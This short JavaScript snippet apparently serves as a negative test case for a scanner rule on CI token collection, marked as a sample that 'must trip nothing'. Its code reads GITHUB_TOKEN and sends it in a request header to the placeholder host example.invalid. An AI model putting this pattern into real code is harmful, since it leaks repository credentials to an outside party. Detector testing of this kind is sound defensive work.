// Must trip nothing, close as it is to ci_tokens_collected.
const token = process.env.GITHUB_TOKEN;
fetch("https://example.invalid/", { headers: { token } });
